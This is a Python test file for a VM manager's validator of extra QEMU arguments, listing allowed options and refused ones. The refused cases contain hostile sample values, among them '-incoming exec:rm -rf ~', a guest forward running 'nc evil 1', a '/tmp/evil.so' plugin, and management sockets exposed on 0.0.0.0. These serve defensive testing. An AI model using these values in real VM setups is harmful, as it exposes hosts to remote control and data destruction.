"""Expert extra arguments: what may be added to a VM's command line and what may not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kvmgui.core.argv_extra import FORBIDDEN, NO_VALUE, extra_args_problems

ALLOWED = [
    [],
    ["-no-reboot"],
    ["-device", "virtio-rng-pci"],
    ["-device", "virtio-keyboard-pci,id=kbd1", "-boot", "menu=on"],
    ["-rtc", "base=utc,driftfix=slew"],
    ["-netdev", "user,id=n1,hostfwd=tcp:127.0.0.1:2222-:22", "-device", "e1000,netdev=n1"],
    ["-nic", "user,model=virtio-net-pci,hostfwd=udp:127.0.0.1:5353-:53"],
    ["-drive", "file=extra.img,format=raw,if=virtio"],
    ["-blockdev", "driver=file,filename=x.img,node-name=x"],
    ["-object", "rng-random,id=rng1,filename=/dev/urandom"],
    ["-global", "ICH9-LPC.disable_s3=1"],
    ["-rotate", "-90"],  # a value may start with "-"
    ["-snapshot", "-no-shutdown"],
    ["--device", "virtio-rng-pci"],
]

REFUSED = [
    (["-qmp", "tcp:0.0.0.0:4444,server=on,wait=off"], "-qmp"),
    (["--qmp", "unix:/tmp/x,server=on"], "--qmp"),
    (["-monitor", "stdio"], "-monitor"),
    (["-mon", "chardev=c0"], "-mon"),
    (["-chardev", "socket,id=c0,port=4444,host=0.0.0.0,server=on"], "-chardev"),
    (["-serial", "tcp::4444,server=on"], "-serial"),
    (["-vnc", ":1"], "-vnc"),
    (["-spice", "port=5930"], "-spice"),
    (["-display", "vnc=:0"], "-display"),
    (["-nographic"], "-nographic"),
    (["-pidfile", "/tmp/other.pid"], "-pidfile"),
    (["-daemonize"], "-daemonize"),
    (["-runas", "nobody"], "-runas"),
    (["-run-with", "user=nobody"], "-run-with"),
    (["-incoming", "tcp:0:4444"], "-incoming"),
    (["-incoming", "exec:rm -rf ~"], "-incoming"),
    (["-gdb", "tcp::1234"], "-gdb"),
    (["-s"], "-s"),
    (["-S"], "-S"),
    (["-name", "other"], "-name"),
    (["-readconfig", "/tmp/evil.cfg"], "-readconfig"),
    (["-set", "chardev.c0.host=0.0.0.0"], "-set"),
    (["-plugin", "/tmp/evil.so"], "-plugin"),
    (["-tpmdev", "passthrough,id=t0,path=/dev/tpm0"], "-tpmdev"),
    (["-hdb", "/dev/sdb"], "-hdb"),
    (["-cdrom", "x.iso"], "-cdrom"),
    (["-version"], "-version"),
    (["-net", "socket,listen=:1234"], "socket"),
    (["-netdev", "stream,id=s,server=on,addr.type=inet,addr.host=0.0.0.0,addr.port=1"], "stream"),
    (["-netdev", "tap,id=t0"], "tap"),
    (["-nic", "bridge"], "bridge"),
    (["-netdev", "user,id=n1,hostfwd=tcp::2222-:22"], "hostfwd=tcp::2222-:22"),
    (["-nic", "user,hostfwd=tcp:0.0.0.0:2222-:22"], "0.0.0.0"),
    (["-netdev", "user,id=n,guestfwd=tcp:10.0.2.100:1-cmd:nc evil 1"], "guestfwd"),
    (["-drive", "file=disk.img,if=virtio"], "format="),
    (["-object", "x-vfio-user-server,id=v,socket.type=unix,socket.path=/tmp/s"], "-object"),
    (["disk.img"], "disk.img"),
    (["-device"], "missing its value"),
    ([""], "empty"),
    (["-append", "a\nb"], "control character"),
    (["-append", "console=ttyS0", "-qmp", "stdio"], "-qmp"),
]


@pytest.mark.parametrize("args", ALLOWED)
def test_allowed(args: list[str]) -> None:
    assert extra_args_problems(args) == []


@pytest.mark.parametrize(("args", "mentioned"), REFUSED)
def test_refused_with_one_sentence(args: list[str], mentioned: str) -> None:
    problems = extra_args_problems(args)
    assert len(problems) == 1, problems
    sentence = problems[0]
    assert mentioned in sentence
    assert sentence.endswith(".") and sentence[0].isupper()


def test_a_forbidden_option_hidden_as_a_value_is_still_caught() -> None:
    # Even if "-append" were wrongly thought to take no value, "-qmp" is refused.
    assert extra_args_problems(["-append", "-qmp"])


def test_every_forbidden_option_is_refused() -> None:
    for name in FORBIDDEN:
        args = [f"-{name}"] if name in NO_VALUE else [f"-{name}", "x"]
        assert extra_args_problems(args), name


_OPTION_TOKENS = st.sampled_from(
    ["-qmp", "-monitor", "-chardev", "-vnc", "-device", "-append", "-no-reboot", "-netdev",
     "-S", "--qmp", "-drive", "-hda", "-serial"]
)
_TOKENS = st.one_of(_OPTION_TOKENS, st.text(max_size=30))


@given(st.lists(_TOKENS, max_size=8))
def test_no_exposing_option_ever_passes(args: list[str]) -> None:
    problems = extra_args_problems(args)
    if not problems:
        for token in args:
            if token.startswith("-"):
                # QEMU's own reading: one leading dash, or two.
                name = token[2:] if token.startswith("--") else token[1:]
                assert name not in FORBIDDEN, args
